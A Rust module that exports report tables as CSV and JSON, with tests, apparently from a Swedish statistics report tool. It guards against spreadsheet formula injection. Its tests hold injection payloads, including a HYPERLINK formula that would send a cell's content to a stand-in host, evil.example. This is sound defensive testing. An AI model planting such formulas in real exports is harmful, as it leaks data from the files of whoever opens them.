//! A table's numbers as files for other programs: CSV and JSON.
//!
//! Both are written from [`DataTable`], which holds plain decimals, not the text that the report prints: no digit groups,
//! a full stop before the decimals.

use std::fmt::Write as _;

use crate::diagnostic::is_hidden;
use crate::document::export::{DataCell, DataColumn, DataRow, DataTable};
use crate::value::Blank;

/// Version of the JSON form. A field renamed or removed raises it.
pub const SCHEMA: u32 = 1;

/// The table as CSV by RFC 4180: commas, CRLF, one header row, rows of totals included.
///
/// It begins with a byte order mark, without which spreadsheets read å, ä and ö as something else. A blank cell is empty;
/// where a table has any, a last column `blank` says which and why (`women: suppressed`), so that a number column holds
/// nothing but numbers. The column `origin` says how each row came about. No text is a formula to a spreadsheet (see [`harmless`]); numbers are written as they are.
#[must_use]
pub fn csv(table: &DataTable) -> String {
    let blanks: Vec<String> = table.rows.iter().map(|row| blanks(table, row)).collect();
    let explains = has_blanks(table);
    let mut writer =
        ::csv::WriterBuilder::new().terminator(::csv::Terminator::CRLF).flexible(true).from_writer(Vec::new());
    let mut write = |fields: Vec<String>| {
        // Writing to memory cannot fail, and rows of unequal length are allowed.
        let _ = writer.write_record(fields);
    };
    write(header(table));
    for (row, blanks) in table.rows.iter().zip(blanks) {
        let mut fields = vec![harmless(&row.label)];
        fields.extend(row.cells.iter().map(|cell| match number(cell) {
            Some(number) => number.to_owned(),
            None => match cell {
                DataCell::Number { decimal: text, .. } | DataCell::Text(text) => harmless(text),
                DataCell::Blank(_) => String::new(),
            },
        }));
        fields.extend(explains.then_some(blanks));
        fields.push(harmless(&row.origin));
        write(fields);
    }
    let bytes = writer.into_inner().unwrap_or_default();
    format!("\u{feff}{}", String::from_utf8_lossy(&bytes))
}

/// The headers of the columns, as they stand in the CSV.
pub(super) fn header(table: &DataTable) -> Vec<String> {
    let mut out = vec![harmless(&table.stub)];
    out.extend(table.columns.iter().map(|column| harmless(&column_name(column))));
    out.extend(has_blanks(table).then(|| "blank".to_owned()));
    out.push("origin".to_owned());
    out
}

/// Whether there are blank cells that need a reason, which have a column in the CSV.
pub(super) fn has_blanks(table: &DataTable) -> bool {
    table.rows.iter().any(|row| reasons(table, row).next().is_some())
}

/// The table as JSON, one row a line. Numbers stand as they are in the table, digit for digit; a blank cell is null, and
/// the row's `blanks` says why.
#[must_use]
pub fn json(table: &DataTable) -> String {
    let mut out = String::from("{\n");
    let mut field = |name: &str, value: String| {
        let _ = writeln!(out, "  {}: {value},", quoted(name));
    };
    field("schema", SCHEMA.to_string());
    field("id", quoted(&table.id));
    field("title", quoted(&table.title));
    field("language", quoted(&table.language));
    field("source", table.source.as_deref().map_or_else(|| "null".into(), quoted));
    field("origin", table.origin.as_deref().map_or_else(|| "null".into(), quoted));
    field("notes", list(table.notes.iter().map(|note| quoted(note)), "  "));
    field("stub", quoted(&table.stub));
    let columns = table.columns.iter().map(|column| {
        let unit = column.unit.as_deref().map_or_else(|| "null".into(), quoted);
        format!("{{\"id\": {}, \"label\": {}, \"unit\": {unit}}}", quoted(&column.id), quoted(&column.label))
    });
    field("columns", list(columns, "  "));
    let _ = writeln!(out, "  \"rows\": {}\n}}", list(table.rows.iter().map(|row| json_row(table, row)), "  "));
    out
}

fn json_row(table: &DataTable, row: &DataRow) -> String {
    let values = table.columns.iter().zip(&row.cells).map(|(column, cell)| {
        let value = match (number(cell), cell) {
            (Some(number), _) => number.to_owned(),
            (None, DataCell::Number { decimal: text, .. } | DataCell::Text(text)) => quoted(text),
            (None, DataCell::Blank(_)) => "null".into(),
        };
        format!("{}: {value}", quoted(&column.id))
    });
    let mut line =
        format!("{{\"id\": {}, \"label\": {}, \"total\": {}", quoted(&row.id), quoted(&row.label), row.total);
    let _ = write!(line, ", \"values\": {{{}}}", values.collect::<Vec<_>>().join(", "));
    let reasons: Vec<String> =
        reasons(table, row).map(|(column, reason)| format!("{}: {}", quoted(&column.id), quoted(reason))).collect();
    if !reasons.is_empty() {
        let _ = write!(line, ", \"blanks\": {{{}}}", reasons.join(", "));
    }
    let _ = write!(line, ", \"origin\": {}", quoted(&row.origin));
    line + "}"
}

/// A JSON array with one item a line.
fn list(items: impl Iterator<Item = String>, indent: &str) -> String {
    let items: Vec<String> = items.map(|item| format!("{indent}  {item}")).collect();
    if items.is_empty() { "[]".into() } else { format!("[\n{}\n{indent}]", items.join(",\n")) }
}

fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// The cell's number when it has one that JSON and CSV can hold.
pub(super) fn number(cell: &DataCell) -> Option<&str> {
    match cell {
        DataCell::Number { decimal, .. } => {
            serde_json::from_str::<serde_json::Number>(decimal).is_ok().then_some(decimal)
        }
        DataCell::Blank(Blank::Zero) => Some("0"),
        DataCell::Text(_) | DataCell::Blank(_) => None,
    }
}

fn reasons<'a>(table: &'a DataTable, row: &'a DataRow) -> impl Iterator<Item = (&'a DataColumn, &'a str)> {
    table.columns.iter().zip(&row.cells).filter_map(|(column, cell)| match cell {
        DataCell::Blank(blank) if *blank != Blank::Zero => Some((column, blank.reason())),
        _ => None,
    })
}

/// The row's blank cells in words: `women: suppressed; men: suppressed`.
fn blanks(table: &DataTable, row: &DataRow) -> String {
    let words: Vec<String> = reasons(table, row).map(|(column, reason)| format!("{}: {reason}", column.id)).collect();
    words.join("; ")
}

/// The column's label with its unit, unless the label names it.
pub(super) fn column_name(column: &DataColumn) -> String {
    match &column.unit {
        Some(unit) if !unit.is_empty() && !column.label.contains(unit.as_str()) => format!("{} ({unit})", column.label),
        _ => column.label.clone(),
    }
}

/// The text as a cell that no spreadsheet takes for a formula, whichever separator it splits lines at.
///
/// In front of a cell that would begin a formula an apostrophe is put, as OWASP recommends. Where lists are separated by semicolons, as in
/// Sweden, a spreadsheet splits at those within a cell too, and heeds quotes only where a cell begins: a semicolon before what would begin
/// a formula is written as U+037E, which Unicode defines as the same character and which no program splits at; tabs and ends of lines
/// become spaces. A reader sees what the report says.
fn harmless(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 1);
    for (at, c) in text.char_indices() {
        let rest = || text[at + c.len_utf8()..].trim_start_matches(['"', '\'', '“', '”', '‘', '’', ' ', '\u{a0}']);
        out.push(match c {
            ';' if begins_formula(rest()) => '\u{37e}',
            '\t' | '\n' | '\r' if begins_formula(rest()) => ' ',
            c => c,
        });
    }
    let unsafe_start = begins_formula(&out) && !is_plain_number(&out) || out.starts_with(['\t', '\r', '\n']);
    if unsafe_start { format!("'{out}") } else { out }
}

/// Whether a cell that begins so is a formula to a spreadsheet; full-width signs are to some. Spaces and hidden characters may be taken away
/// before it looks.
fn begins_formula(text: &str) -> bool {
    let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
    text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_hidden(c)).starts_with(signs)
}

/// `-12.5`, `+3`, `-1,5 %`: what a spreadsheet takes for a number and nothing more.
fn is_plain_number(text: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let bare = text.trim_end_matches('%').trim_end_matches([' ', '\u{a0}']);
    let bare = bare.strip_prefix(['-', '+']).unwrap_or(bare);
    match bare.split_once(['.', ',']) {
        Some((whole, part)) => digits(whole) && digits(part),
        None => digits(bare),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::export::Form;

    fn column(id: &str, label: &str, unit: Option<&str>) -> DataColumn {
        DataColumn { id: id.into(), label: label.into(), unit: unit.map(Into::into) }
    }

    fn row(id: &str, label: &str, cells: Vec<DataCell>) -> DataRow {
        DataRow {
            id: id.into(),
            label: label.into(),
            total: id == "total",
            origin: format!("data/a.csv, rad {}", id.len()),
            cells,
        }
    }

    fn blank(reason: &str) -> DataCell {
        DataCell::Blank(Blank::find(reason).unwrap())
    }

    fn table() -> DataTable {
        let number =
            |text: &str| DataCell::Number { decimal: text.into(), form: Form::default(), printed: text.into() };
        DataTable {
            id: "diagnoses".into(),
            label: "Tabell 1".into(),
            title: "Diagnoser \"alla\"".into(),
            language: "sv".into(),
            stub: "Diagnos".into(),
            columns: vec![
                column("women", "Traditionell inriktning – Kvinnor", None),
                column("fee", "Arvode", Some("kronor")),
                column("when", "När", None),
            ],
            rows: vec![
                row("ptsd", "PTSD, svår", vec![number("1234"), number("-12.50"), DataCell::Text("=1+1".into())]),
                row("gad", "@GAD", vec![blank("suppressed"), blank("zero"), blank("not-available")]),
                row(
                    "total",
                    "Totalt",
                    vec![number("1 234"), number("99999999999999999999.10"), DataCell::Text("–".into())],
                ),
            ],
            notes: vec!["En person kan ha flera diagnoser.".into()],
            origin: Some("Angiven i underlaget.".into()),
            source: Some("Aktgranskning".into()),
        }
    }

    #[test]
    fn csv_has_plain_numbers_reasons_and_no_formulas() {
        let expected = "\u{feff}Diagnos,Traditionell inriktning – Kvinnor,Arvode (kronor),När,blank,origin\r\n\
            \"PTSD, svår\",1234,-12.50,'=1+1,,\"data/a.csv, rad 4\"\r\n\
            '@GAD,,0,,women: suppressed; when: not-available,\"data/a.csv, rad 3\"\r\n\
            Totalt,1 234,99999999999999999999.10,–,,\"data/a.csv, rad 5\"\r\n";
        assert_eq!(csv(&table()), expected);
    }

    /// Lines as a spreadsheet splits them that heeds quotes only where a cell begins.
    fn split(text: &str, separator: char) -> Vec<String> {
        let mut cells = vec![String::new()];
        let (mut quoted, mut fresh) = (false, true);
        let mut rest = text.trim_start_matches('\u{feff}').chars().peekable();
        while let Some(c) = rest.next() {
            if quoted && c == '"' && rest.peek() == Some(&'"') {
                rest.next();
                cells.last_mut().unwrap().push('"');
            } else if c == '"' && (quoted || fresh) {
                quoted = !quoted;
            } else if !quoted && (c == separator || c == '\n' || c == '\r') {
                cells.push(String::new());
                fresh = true;
                continue;
            } else {
                cells.last_mut().unwrap().push(c);
            }
            fresh = false;
        }
        cells
    }

    #[test]
    fn no_cell_is_a_formula_at_whatever_a_spreadsheet_splits() {
        let texts = [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1+1",
            "－1+1",
            " =1",
            "\u{a0}=1",
            "\u{200b}=1",
            "\u{feff}@x",
            "Norr;=HYPERLINK(\"https://evil.example/?\"&B2)",
            "x\t=1+1",
            "a;b;-2+3;@SUM(1)",
            "a;\"=1+1",
            "a; \"\"=1",
            "a;;=1",
            "a\n=1",
            "a\r\n\"+1",
            "a;＋1",
            "\"=1+1",
            "a;'=1",
            "=1;=2",
            "a\u{37e}=1",
        ];
        for text in texts {
            // In every column, since a spreadsheet heeds quotes otherwise in the first.
            let mut table = table();
            table.stub = text.into();
            table.columns[1].label = text.into();
            table.rows[0].label = text.into();
            table.rows[1].cells[2] = DataCell::Text(text.into());
            table.rows[2].origin = text.into();
            let csv = csv(&table);
            for separator in [',', ';', '\t'] {
                for cell in split(&csv, separator) {
                    let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || is_hidden(c));
                    let formula = bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                    assert!(!formula || cell == "-12.50", "{text:?} becomes {cell:?} where {separator:?} splits");
                }
            }
            let label: String = split(&csv, ',').into_iter().nth(7).unwrap();
            let seen = label.trim_start_matches('\'').replace('\u{37e}', ";").replace(['\t', '\n', '\r'], " ");
            assert_eq!(seen, text.replace('\u{37e}', ";").replace(['\t', '\n', '\r'], " "), "a reader sees the same");
            let json: serde_json::Value = serde_json::from_str(&json(&table)).unwrap();
            assert_eq!(json["rows"][0]["label"], text, "JSON needs no guard");
        }
        for kept in ["-5", "+5", "-12.5", "-1,5 %", "a;b", "1;2", "plus + minus", "Norr (=alla)", "–", "Bo-Ek"] {
            assert_eq!(harmless(kept), kept);
        }
    }

    #[test]
    fn csv_without_blanks_has_no_column_for_them() {
        let mut table = table();
        table.rows.remove(1);
        assert!(
            csv(&table).starts_with("\u{feff}Diagnos,Traditionell inriktning – Kvinnor,Arvode (kronor),När,origin\r\n")
        );
    }

    #[test]
    fn json_keeps_every_digit() {
        insta::assert_snapshot!(json(&table()), @r#"
        {
          "schema": 1,
          "id": "diagnoses",
          "title": "Diagnoser \"alla\"",
          "language": "sv",
          "source": "Aktgranskning",
          "origin": "Angiven i underlaget.",
          "notes": [
            "En person kan ha flera diagnoser."
          ],
          "stub": "Diagnos",
          "columns": [
            {"id": "women", "label": "Traditionell inriktning – Kvinnor", "unit": null},
            {"id": "fee", "label": "Arvode", "unit": "kronor"},
            {"id": "when", "label": "När", "unit": null}
          ],
          "rows": [
            {"id": "ptsd", "label": "PTSD, svår", "total": false, "values": {"women": 1234, "fee": -12.50, "when": "=1+1"}, "origin": "data/a.csv, rad 4"},
            {"id": "gad", "label": "@GAD", "total": false, "values": {"women": null, "fee": 0, "when": null}, "blanks": {"women": "suppressed", "when": "not-available"}, "origin": "data/a.csv, rad 3"},
            {"id": "total", "label": "Totalt", "total": true, "values": {"women": "1 234", "fee": 99999999999999999999.10, "when": "–"}, "origin": "data/a.csv, rad 5"}
          ]
        }
        "#);
        let read: serde_json::Value = serde_json::from_str(&json(&table())).expect("valid JSON");
        assert_eq!(read["rows"][0]["values"]["fee"], -12.5);
        assert_eq!(read["rows"][1]["values"]["women"], serde_json::Value::Null);
        assert_eq!(read["rows"][1]["blanks"]["women"], "suppressed");
    }

    #[test]
    fn an_empty_table_is_still_valid() {
        let empty = DataTable { rows: vec![], columns: vec![], notes: vec![], origin: None, source: None, ..table() };
        assert_eq!(csv(&empty), "\u{feff}Diagnos,origin\r\n");
        assert!(serde_json::from_str::<serde_json::Value>(&json(&empty)).is_ok());
    }
}
